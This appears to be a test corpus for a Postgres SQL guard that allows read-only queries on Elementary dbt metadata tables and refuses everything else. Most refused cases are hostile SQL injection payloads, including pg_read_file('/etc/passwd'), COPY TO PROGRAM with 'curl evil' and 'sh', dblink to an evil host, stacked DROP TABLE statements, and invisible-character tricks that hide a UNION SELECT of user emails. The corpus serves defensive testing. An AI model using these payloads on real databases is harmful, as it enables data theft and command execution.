-- The corpus of the SQL guard for postgres. Each case begins with a line that starts with "-- >":
--   -- > allowed: the tables it reads          -- > refused: a part of the reason
-- Square brackets override the place, [schema=Elementary database=none]; <U+200B> stands for that character.

-- > allowed: dbt_models
SELECT * FROM dbt_models

-- > allowed: dbt_models
select name, owner from elementary.dbt_models where schema_name = 'marts' order by name limit 10;

-- > allowed: dbt_models
SELECT m.name FROM analytics.elementary.dbt_models AS m

-- > allowed: dbt_models
SELECT m.name FROM "analytics"."elementary"."dbt_models" AS m

-- > allowed: dbt_models
SELECT ELEMENTARY.DBT_MODELS.NAME FROM ELEMENTARY.DBT_MODELS

-- > allowed: elementary_test_results
SELECT status, count(*) AS verdicts
FROM elementary.elementary_test_results
WHERE detected_at >= now() - interval '7 days'
GROUP BY status
HAVING count(*) > 1
ORDER BY verdicts DESC

-- > allowed: dbt_models, dbt_run_results
SELECT m.name, avg(r.execution_time) AS seconds
FROM dbt_run_results r
JOIN dbt_models m ON m.unique_id = r.unique_id
WHERE r.status = 'success' AND r.created_at BETWEEN '2026-01-01' AND '2026-02-01'
GROUP BY 1

-- > allowed: dbt_models, dbt_tests, elementary_test_results
SELECT m.name, t.short_name, e.status
FROM (dbt_models m LEFT JOIN dbt_tests t ON t.parent_model_unique_id = m.unique_id)
FULL OUTER JOIN elementary_test_results e ON e.test_unique_id = t.unique_id

-- > allowed: dbt_models, dbt_tests
SELECT m.name, t.name FROM dbt_models m, dbt_tests t WHERE t.parent_model_unique_id = m.unique_id

-- > allowed: dbt_columns, dbt_models
SELECT m.name FROM dbt_models m CROSS JOIN (dbt_columns c NATURAL JOIN dbt_models o)

-- > allowed: dbt_invocations, dbt_run_results
WITH last_runs AS (
    SELECT invocation_id, max(created_at) AS at FROM dbt_invocations GROUP BY invocation_id
), slow AS MATERIALIZED (
    SELECT * FROM dbt_run_results WHERE execution_time > 60
)
SELECT s.name, l.at FROM slow s JOIN last_runs l USING (invocation_id)

-- > allowed: dbt_models
WITH dbt_models AS (SELECT * FROM dbt_models WHERE package_name = 'shop') SELECT * FROM dbt_models

-- > allowed: dbt_models
WITH users AS (SELECT name FROM dbt_models) SELECT * FROM users

-- > allowed: dbt_models
WITH RECURSIVE up (id, depth) AS (
    SELECT unique_id, 0 FROM dbt_models
    UNION ALL
    SELECT up.id, up.depth + 1 FROM up WHERE up.depth < 3
)
SELECT * FROM up

-- > allowed: dbt_models
WITH a AS (WITH b AS (SELECT name FROM dbt_models) SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b

-- > allowed: dbt_run_results
SELECT name, row_number() OVER (PARTITION BY unique_id ORDER BY created_at DESC) AS nth,
       lag(execution_time) OVER w, sum(execution_time) OVER (w ROWS BETWEEN 3 PRECEDING AND CURRENT ROW)
FROM dbt_run_results
WINDOW w AS (PARTITION BY unique_id ORDER BY created_at)

-- > allowed: dbt_run_results
SELECT percentile_cont(0.95) WITHIN GROUP (ORDER BY execution_time),
       count(*) FILTER (WHERE status = 'error'), string_agg(DISTINCT name, ', ' ORDER BY name)
FROM dbt_run_results

-- > allowed: dbt_run_results
SELECT DISTINCT ON (unique_id) unique_id, status FROM dbt_run_results ORDER BY unique_id, created_at DESC NULLS LAST

-- > allowed: dbt_tests
SELECT CASE WHEN severity = 'ERROR' THEN 1 ELSE 0 END, coalesce(quality_dimension, 'none'), nullif(name, '')
FROM dbt_tests

-- > allowed: dbt_models
SELECT generated_at::timestamp, CAST(name AS varchar(20)), meta::jsonb, '1.50'::numeric(10, 2), 3::double precision
FROM dbt_models

-- > allowed: dbt_models
SELECT meta::jsonb ->> 'owner', meta::jsonb -> 'tags' -> 0, meta::jsonb #>> '{a,b}', meta::jsonb @> '{"a": 1}'
FROM dbt_models

-- > allowed: dbt_models
SELECT jsonb_array_length(tags::jsonb), json_extract_path_text(meta::json, 'a', 'b') FROM dbt_models

-- > allowed: dbt_invocations
SELECT date_trunc('day', created_at), extract(epoch FROM created_at), created_at AT TIME ZONE 'UTC',
       to_char(created_at, 'YYYY-MM-DD'), age(created_at), created_at::date - date '2026-01-01'
FROM dbt_invocations

-- > allowed: dbt_invocations
SELECT created_at + interval '1' day, current_date, current_timestamp, localtimestamp FROM dbt_invocations

-- > allowed: dbt_models
SELECT upper(name), trim(both ' ' FROM name), substring(name FROM 1 FOR 3), position('x' IN name), name || '.' || alias,
       split_part(path, '/', 1), regexp_replace(path, '\.sql$', ''), left(name, 3), overlay(name placing 'x' from 1 for 2)
FROM dbt_models

-- > allowed: dbt_models
SELECT name FROM dbt_models WHERE name ~* '^stg_' OR name NOT ILIKE '%_tmp' OR path SIMILAR TO '%(a|b)%'

-- > allowed: dbt_models
SELECT name FROM dbt_models WHERE name LIKE 'a\_b' AND alias = 'it''s; DROP TABLE x -- not a comment'

-- > allowed: dbt_models, dbt_tests
SELECT name FROM dbt_models m WHERE EXISTS (SELECT 1 FROM dbt_tests t WHERE t.parent_model_unique_id = m.unique_id)

-- > allowed: dbt_models, dbt_tests
SELECT name, (SELECT count(*) FROM dbt_tests t WHERE t.parent_model_unique_id = m.unique_id) AS tests
FROM dbt_models m
WHERE m.unique_id NOT IN (SELECT parent_model_unique_id FROM dbt_tests) AND m.name = ANY (ARRAY['a', 'b'])

-- > allowed: dbt_models, dbt_seeds, dbt_snapshots
SELECT name FROM dbt_models UNION ALL SELECT name FROM dbt_seeds EXCEPT (SELECT name FROM dbt_snapshots) ORDER BY 1

-- > allowed: dbt_models, dbt_seeds
(SELECT name FROM dbt_models) INTERSECT (SELECT name FROM dbt_seeds)

-- > allowed: dbt_models, dbt_run_results
SELECT m.name, last.status
FROM dbt_models m
LEFT JOIN LATERAL (SELECT r.status FROM dbt_run_results r WHERE r.unique_id = m.unique_id LIMIT 1) last ON true

-- > allowed: elementary_test_results
SELECT e.status, v.rank FROM elementary_test_results e JOIN (VALUES ('fail', 1), ('warn', 2)) AS v (status, rank)
ON v.status = e.status

-- > allowed: data_monitoring_metrics
SELECT full_table_name, metric_name, corr(metric_value, extract(epoch from bucket_end)), stddev_samp(metric_value)
FROM data_monitoring_metrics GROUP BY GROUPING SETS ((full_table_name), (metric_name), ())

-- > allowed: data_monitoring_metrics
SELECT full_table_name, sum(metric_value) FROM data_monitoring_metrics GROUP BY ROLLUP (full_table_name), CUBE (metric_name)

-- > allowed: test_result_rows
SELECT elementary_test_results_id, row_index FROM test_result_rows OFFSET 10 FETCH FIRST 5 ROWS ONLY

-- > allowed: metadata
SELECT dbt_pkg_version FROM metadata

-- > allowed: dbt_models
SELECT name -- the model
FROM dbt_models /* only
models */ WHERE name <> '/* not a comment */';

-- > allowed: dbt_models
SELECT name FROM dbt_models; -- that is all

-- > allowed: dbt_models
SELECT name AS "Größe" FROM dbt_models WHERE description = 'naïve – 日本'

-- > allowed:
SELECT 1

-- > allowed: dbt_run_results, dbt_source_freshness_results, schema_columns_snapshot
SELECT 'runs' AS what, count(*) FROM dbt_run_results
UNION ALL SELECT 'sources', count(*) FROM dbt_source_freshness_results
UNION ALL SELECT 'columns', count(*) FROM schema_columns_snapshot

-- > allowed: dbt_exposures, dbt_groups, dbt_metrics, dbt_sources
SELECT e.name, g.name, x.timestamp, s.identifier FROM dbt_exposures e, dbt_groups g, dbt_metrics x, dbt_sources s

-- > allowed: dbt_models
SELECT q.models, q.count FROM (SELECT count(*), sum(1) AS models FROM dbt_models) q

-- > allowed: dbt_models
SELECT name FROM dbt_models WHERE name IS DISTINCT FROM alias AND (name, alias) IN (('a', 'b'), ('c', 'd'))

-- > allowed: dbt_models [schema=Elementary]
SELECT name FROM "Elementary".dbt_models

-- > allowed: dbt_models [schema=ELEMENTARY database=ANALYTICS]
SELECT name FROM "ANALYTICS"."ELEMENTARY".dbt_models

-- > refused: not of the schema 'elementary' [schema=ELEMENTARY]
SELECT name FROM elementary.dbt_models

-- > refused: not of the database 'analytics' [schema=ELEMENTARY database=ANALYTICS]
SELECT name FROM analytics."ELEMENTARY".dbt_models

-- > allowed: dbt_models
SELECT E'tab\there', name FROM dbt_models

-- > refused: is not a table of the Elementary schema
SELECT * FROM users

-- > refused: not of the schema 'raw'
SELECT * FROM raw.users

-- > refused: not of the schema 'raw'
SELECT * FROM raw.dbt_models

-- > refused: not of the database 'other'
SELECT * FROM other.elementary.dbt_models

-- > refused: not of the database 'analytics' [database=none]
SELECT * FROM analytics.elementary.dbt_models

-- > refused: in this spelling
SELECT * FROM "Dbt_Models"

-- > refused: in this spelling
SELECT * FROM elementary."DBT_MODELS"

-- > refused: not of the schema 'Elementary'
SELECT * FROM "Elementary".dbt_models

-- > refused: not of the schema 'elementary' [schema=Elementary]
SELECT * FROM elementary.dbt_models

-- > refused: is not a table of the Elementary schema
SELECT * FROM "elementary.dbt_models"

-- > refused: is not a table of the Elementary schema
SELECT * FROM "dbt_models "

-- > refused: not of the schema 'pg_catalog'
SELECT rolname FROM pg_catalog.pg_authid

-- > refused: is not a table of the Elementary schema
SELECT relname FROM pg_class

-- > refused: not of the schema 'information_schema'
SELECT * FROM information_schema.tables

-- > refused: not of the schema 'pg_temp'
SELECT * FROM pg_temp.dbt_models

-- > refused: is not a table of the Elementary schema
SELECT * FROM test_abc_1234_schema_changes

-- > refused: not of the schema 'raw'
WITH dbt_models AS (SELECT * FROM raw.users) SELECT * FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT m.name FROM dbt_models m JOIN raw.users u ON u.id = m.name

-- > refused: not of the schema 'raw'
SELECT name, (SELECT max(email) FROM raw.users) FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT name FROM dbt_models WHERE name IN (SELECT email FROM raw.users)

-- > refused: not of the schema 'raw'
SELECT name FROM dbt_models UNION ALL SELECT email FROM raw.users

-- > refused: not of the schema 'raw'
SELECT name FROM dbt_models ORDER BY (SELECT count(*) FROM raw.users)

-- > refused: not of the schema 'raw'
SELECT name FROM dbt_models LIMIT (SELECT count(*) FROM raw.users)

-- > refused: not of the schema 'raw'
SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM raw.users)) FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT sum(1) OVER (ORDER BY (SELECT max(id) FROM raw.users)) FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT name FROM dbt_models GROUP BY name HAVING count(*) > (SELECT 1 FROM raw.users)

-- > refused: not of the schema 'raw'
SELECT 1 FROM dbt_models m, LATERAL (SELECT * FROM raw.users) u

-- > refused: not of the schema 'raw'
SELECT * FROM (dbt_models m JOIN raw.users u ON true)

-- > refused: not of the schema 'raw'
SELECT * FROM (VALUES ((SELECT email FROM raw.users LIMIT 1))) v (x)

-- > refused: not of the schema 'raw'
WITH RECURSIVE t AS (SELECT name FROM dbt_models UNION ALL SELECT email FROM raw.users, t) SELECT * FROM t

-- > refused: 'users' is not a table of the Elementary schema
SELECT * FROM (WITH users AS (SELECT 1 FROM dbt_models) SELECT * FROM users) a JOIN users b ON true

-- > refused: 'users' is not a table of the Elementary schema
WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a

-- > refused: 'users' is not a table of the Elementary schema
WITH users AS (SELECT * FROM users) SELECT * FROM users

-- > refused: 'users' is not a table of the Elementary schema
WITH "Users" AS (SELECT 1) SELECT * FROM users

-- > refused: not of the schema 'raw'
WITH users AS (SELECT 1) SELECT * FROM raw.users

-- > refused: not of the schema 'users'
WITH users AS (SELECT 1) SELECT * FROM users.users

-- > refused: more than one
SELECT 1; SELECT 2

-- > refused: more than one
SELECT * FROM dbt_models; DROP TABLE dbt_models

-- > refused: more than one
SELECT 1; -- one
COPY raw.users TO PROGRAM 'sh'

-- > refused: the statement is empty
-- just a comment

-- > refused: the statement is empty
;

-- > refused: SELECT or WITH
INSERT INTO dbt_models SELECT * FROM dbt_models

-- > refused: SELECT or WITH
UPDATE dbt_models SET name = 'x'

-- > refused: SELECT or WITH
DELETE FROM dbt_models

-- > refused: SELECT or WITH
MERGE INTO dbt_models USING dbt_tests ON true WHEN MATCHED THEN DELETE

-- > refused: SELECT or WITH
TRUNCATE dbt_models

-- > refused: SELECT or WITH
CREATE TABLE x AS SELECT * FROM dbt_models

-- > refused: SELECT or WITH
COPY dbt_models TO '/tmp/x'

-- > refused: SELECT or WITH
COPY (SELECT * FROM dbt_models) TO PROGRAM 'curl evil'

-- > refused: SELECT or WITH
EXPLAIN ANALYZE SELECT * FROM dbt_models

-- > refused: SELECT or WITH
EXPLAIN (ANALYZE) DELETE FROM dbt_models

-- > refused: SELECT or WITH
TABLE dbt_models

-- > refused: SELECT or WITH
VALUES (1), (2)

-- > refused: SELECT or WITH
DO 'begin end'

-- > refused: dollar quotes
DO $$ BEGIN PERFORM 1; END $$

-- > refused: SELECT or WITH
CALL elementary.refresh()

-- > refused: SELECT or WITH
SET ROLE postgres

-- > refused: SELECT or WITH
SHOW search_path

-- > refused: SELECT or WITH
PREPARE p AS SELECT 1

-- > refused: SELECT or WITH
EXECUTE p

-- > refused: SELECT or WITH
DECLARE c CURSOR FOR SELECT * FROM dbt_models

-- > refused: SELECT or WITH
LISTEN x

-- > refused: SELECT or WITH
BEGIN

-- > refused: SELECT or WITH
LOCK TABLE dbt_models

-- > refused: SELECT or WITH
GRANT SELECT ON dbt_models TO public

-- > refused: DELETE is not allowed
WITH gone AS (DELETE FROM dbt_models RETURNING *) SELECT * FROM gone

-- > refused: INSERT is not allowed
WITH x AS (INSERT INTO dbt_models (name) VALUES ('x') RETURNING name) SELECT * FROM x

-- > refused: UPDATE is not allowed
WITH x AS (UPDATE dbt_models SET name = 'x' RETURNING name) SELECT * FROM x

-- > refused: INSERT is not allowed
WITH x AS (SELECT 1) INSERT INTO dbt_models SELECT * FROM x

-- > refused: INTO is not allowed
SELECT * INTO copy FROM dbt_models

-- > refused: INTO is not allowed
SELECT * INTO TEMP copy FROM dbt_models

-- > refused: UPDATE is not allowed
SELECT * FROM dbt_models FOR UPDATE

-- > refused: row locks
SELECT * FROM dbt_models FOR SHARE SKIP LOCKED

-- > refused: UPDATE is not allowed
SELECT * FROM dbt_models FOR NO KEY UPDATE NOWAIT

-- > refused: TABLE is not allowed
SELECT 1 UNION TABLE raw.users

-- > refused: TABLE is not allowed
SELECT (TABLE raw.users)

-- > refused: TABLE is not allowed
SELECT * FROM (TABLE raw.users) u

-- > refused: ONLY in Table
SELECT * FROM ONLY dbt_models

-- > refused: 'system'
SELECT * FROM dbt_models TABLESAMPLE SYSTEM (10)

-- > refused: 'pg_read_file'
SELECT pg_read_file('/etc/passwd')

-- > refused: 'pg_read_file'
SELECT pg_catalog.pg_read_file('/etc/passwd') FROM dbt_models

-- > refused: 'pg_read_file'
SELECT "pg_read_file"('/etc/passwd')

-- > refused: 'lower'
SELECT elementary.lower(name) FROM dbt_models

-- > refused: 'evil'
SELECT public.evil() FROM dbt_models

-- > refused: 'evil'
SELECT evil(name) FROM dbt_models

-- > refused: 'pg_ls_dir'
SELECT * FROM pg_ls_dir('/')

-- > refused: 'dblink'
SELECT * FROM dblink('host=evil', 'select 1') AS t (a int)

-- > refused: 'generate_series'
SELECT * FROM generate_series(1, 1000000000)

-- > refused: 'generate_series'
SELECT generate_series(1, 1000000000) FROM dbt_models

-- > allowed: dbt_models
SELECT unnest(string_to_array(name, ',')) FROM dbt_models

-- > allowed: dbt_models
SELECT * FROM dbt_models, unnest(string_to_array(tags, ','))

-- > refused: table function
SELECT * FROM lower('x')

-- > refused: table function
SELECT * FROM LATERAL lower('x') AS l

-- > refused: 'f'
SELECT * FROM ROWS FROM (f(1)) AS x

-- > allowed: dbt_models
SELECT * FROM dbt_models m, jsonb_array_elements(m.tags::jsonb) t

-- > refused: 'nextval'
SELECT nextval('elementary.seq')

-- > refused: 'setval'
SELECT setval('elementary.seq', 1)

-- > refused: 'set_config'
SELECT set_config('role', 'postgres', false)

-- > refused: 'current_setting'
SELECT current_setting('data_directory')

-- > refused: 'pg_sleep'
SELECT pg_sleep(100)

-- > refused: 'query_to_xml'
SELECT query_to_xml('select * from raw.users', true, true, '')

-- > refused: 'table_to_xml'
SELECT table_to_xml('raw.users', true, true, '')

-- > refused: 'database_to_xml'
SELECT database_to_xml(true, true, '')

-- > refused: 'ts_stat'
SELECT * FROM ts_stat('select vector from raw.docs')

-- > refused: 'lo_import'
SELECT lo_import('/etc/passwd')

-- > refused: 'pg_terminate_backend'
SELECT pg_terminate_backend(1)

-- > refused: 'pg_advisory_lock'
SELECT pg_advisory_lock(1) FROM dbt_models

-- > refused: 'version'
SELECT version()

-- > refused: 'repeat'
SELECT repeat('x', 1000000000)

-- > refused: 'has_table_privilege'
SELECT has_table_privilege('raw.users', 'select')

-- > refused: 'pg_get_viewdef'
SELECT pg_get_viewdef('elementary.model_run_results'::text)

-- > refused: 'row_to_json_evil'
WITH row_to_json_evil (a) AS (SELECT 1) SELECT row_to_json_evil(1) FROM row_to_json_evil

-- > refused: 'pg_read_file'
WITH pg_read_file (a) AS (SELECT 1) SELECT pg_read_file('/etc/passwd') FROM pg_read_file

-- > refused: 'ifnull'
SELECT ifnull(name, '') FROM dbt_models

-- > refused: Current User
SELECT current_user

-- > refused: session value user
SELECT user FROM dbt_models

-- > refused: regclass
SELECT 'raw.users'::regclass

-- > refused: regclass
SELECT CAST('raw.users' AS regclass)

-- > refused: regclass
SELECT regclass 'raw.users'

-- > refused: object name
SELECT 'pg_read_file'::regproc, name FROM dbt_models

-- > refused: 'regclass'
SELECT regclass('raw.users')

-- > refused: not a plain one
SELECT name::elementary.evil FROM dbt_models

-- > refused: not a plain one
SELECT name::evil FROM dbt_models

-- > refused: a dot could call a function
SELECT m.evil FROM dbt_models m

-- > refused: a field of an expression
SELECT (m).evil FROM dbt_models m

-- > refused: a field of an expression
SELECT (SELECT m FROM dbt_models m LIMIT 1).pg_evil

-- > refused: 's' is no table of this query
SELECT s.last_value FROM dbt_models

-- > refused: 'users' is no table of this query
SELECT users.email FROM dbt_models m

-- > refused: 'u' is no table of this query
SELECT u.name FROM dbt_models m WHERE EXISTS (SELECT 1 FROM dbt_tests u)

-- > refused: system column
SELECT m.tableoid FROM dbt_models m

-- > refused: system column
SELECT ctid, xmin FROM dbt_models

-- > refused: 'operator'
SELECT name OPERATOR(public.+++) alias FROM dbt_models

-- > refused: qualified collation
SELECT name COLLATE pg_catalog."C" FROM dbt_models

-- > refused: dollar quotes
SELECT $$x$$ FROM dbt_models

-- > refused: dollar quotes
SELECT $tag$ it's $tag$; SELECT email FROM raw.users -- '

-- > refused: dollar quotes
SELECT name FROM dbt_models WHERE name = $1

-- > refused: bind placeholders
SELECT name FROM dbt_models WHERE name = :name

-- > refused: bind placeholders
SELECT name FROM dbt_models WHERE name = %(name)s

-- > refused: bind placeholders
SELECT name FROM dbt_models WHERE name = ?

-- > refused: bind placeholders
SELECT meta::jsonb ? 'a' FROM dbt_models

-- > refused: backslash before a quote
SELECT 'it\'; DELETE FROM raw.users; --'

-- > refused: backslash before a quote
SELECT '\' , email FROM raw.users -- '

-- > refused: backslash before a quote
SELECT E'\' FROM raw.users --' FROM dbt_models

-- > refused: backslash before a quote
SELECT "a\" FROM raw.users --" FROM dbt_models

-- > refused: prefix that touches a quote
SELECT * FROM U&"r\0061w".users

-- > refused: prefix that touches a quote
SELECT U&'\0061' FROM dbt_models

-- > refused: prefix that touches a quote
SELECT * FROM u&"d!0061ta" UESCAPE '!'

-- > refused: prefix that touches a quote
SELECT B'101', X'1F' FROM dbt_models

-- > refused: comment inside a comment
SELECT 1 /* /* */ FROM raw.users -- */

-- > refused: comment inside a comment
SELECT 1 /* a /* b */ c */ FROM dbt_models

-- > refused: that some warehouses execute
SELECT name /*! , email FROM raw.users */ FROM dbt_models

-- > refused: that some warehouses execute
SELECT /*+ SeqScan(m) */ name FROM dbt_models m

-- > refused: comment does not end
SELECT name FROM dbt_models /* WHERE

-- > refused: quote does not end
SELECT 'name FROM dbt_models

-- > refused: quote does not end
SELECT "name FROM dbt_models

-- > refused: invisible character U+000D
SELECT name FROM dbt_models --<U+000D> UNION SELECT email FROM raw.users

-- > refused: invisible character U+2028
SELECT name FROM dbt_models --<U+2028> UNION SELECT email FROM raw.users

-- > refused: invisible character U+0000
SELECT name FROM dbt_models<U+0000>; DROP TABLE x

-- > refused: invisible character U+200B
SELECT * FROM dbt_models<U+200B>

-- > refused: invisible character U+00A0
SELECT *<U+00A0>FROM dbt_models

-- > refused: invisible character U+202E
SELECT name FROM dbt_models WHERE name = '<U+202E>x'

-- > refused: outside ASCII
SELECT * FROM dbt_mоdels

-- > refused: outside ASCII
ſELECT * FROM dbt_models

-- > refused: outside ASCII
SELECT * FROM dbt_metrıcs

-- > refused: is not a table of the Elementary schema
SELECT * FROM "dbt_mоdels"

-- > refused: empty part
SELECT * FROM elementary..dbt_models

-- > refused: empty part
SELECT * FROM "".dbt_models

-- > refused: backslash outside
\! id

-- > refused: backticks
SELECT * FROM `dbt_models`

-- > refused: braces
SELECT * FROM {{ ref('dbt_models') }}

-- > refused: stages, variables and versions
SELECT @x

-- > refused: only -- and /* */
SELECT name FROM dbt_models # comment

-- > refused: only -- and /* */
SELECT name FROM dbt_models // UNION SELECT email FROM raw.users

-- > refused: 'xmltable'
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS a int)

-- > refused: levels of brackets
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- > refused: SEARCH
WITH RECURSIVE t AS (SELECT name FROM dbt_models UNION ALL SELECT name FROM t) SEARCH DEPTH FIRST BY name SET o SELECT * FROM t

-- > refused: 'users' is not a table of the Elementary schema
WITH RECURSIVE users AS (SELECT * FROM users) SELECT * FROM users

-- > refused: 'users' is not a table of the Elementary schema
WITH RECURSIVE users AS (SELECT email FROM users UNION ALL SELECT name FROM dbt_models) SELECT * FROM users

-- > refused: 'users' is not a table of the Elementary schema
WITH RECURSIVE a AS (SELECT 1 UNION ALL SELECT x FROM users), users AS (SELECT 1 AS x) SELECT * FROM a

-- > refused: 'struct'
SELECT struct(name) FROM dbt_models

-- > refused: 'string'
SELECT string(name) FROM dbt_models

-- > refused: 'if'
SELECT if(true, name, alias) FROM dbt_models

-- > refused: not valid postgres
SELECT "regclass" 'raw.users'

-- > refused: not valid postgres
SELECT evil 'raw.users' FROM dbt_models

-- > refused: not a plain one
SELECT xml '<a/>', point '(1,2)' FROM dbt_models

-- > refused: 'text'
SELECT text(m) FROM dbt_models m

-- > allowed: dbt_models
SELECT row(name, alias) = row('a', 'b'), ARRAY(SELECT name FROM dbt_models) FROM dbt_models

-- > refused: not of the schema 'raw'
SELECT ARRAY(SELECT email FROM raw.users) FROM dbt_models

-- > allowed: dbt_run_results
SELECT created_at AT TIME ZONE 'utc' AS at FROM dbt_run_results r ORDER BY r.created_at DESC, 1

-- > allowed: dbt_models, dbt_tests
SELECT * FROM (SELECT name FROM dbt_models) a JOIN (WITH x AS (SELECT name FROM dbt_tests), y AS (SELECT 1) SELECT x.name FROM x, y) b ON a.name = b.name

-- > allowed: dbt_invocations
SELECT i.command, i.vars, i.env FROM dbt_invocations i WHERE i.full_refresh IS NOT TRUE AND i.threads > 4

-- > allowed: dbt_models
SELECT name FROM dbt_models WHERE name LIKE '%\_%' ESCAPE '\'

-- > refused: backslash before a quote
SELECT name FROM dbt_models WHERE name LIKE '%' ESCAPE '\' AND alias = ' || (SELECT email FROM raw.users)'

-- > refused: not valid
SELECT * FROM VALUES AS dbt_models

-- > refused: TABLE is not allowed
SELECT (TABLE users)

-- > refused: TABLE is not allowed
SELECT name FROM dbt_models WHERE name IN (TABLE users)

-- > refused: TABLE is not allowed
SELECT ARRAY(TABLE users) FROM dbt_models

-- > refused: TABLE is not allowed
SELECT 1 FROM dbt_models WHERE EXISTS (TABLE users)

-- > refused: an alias inside
SELECT (name users) FROM dbt_models
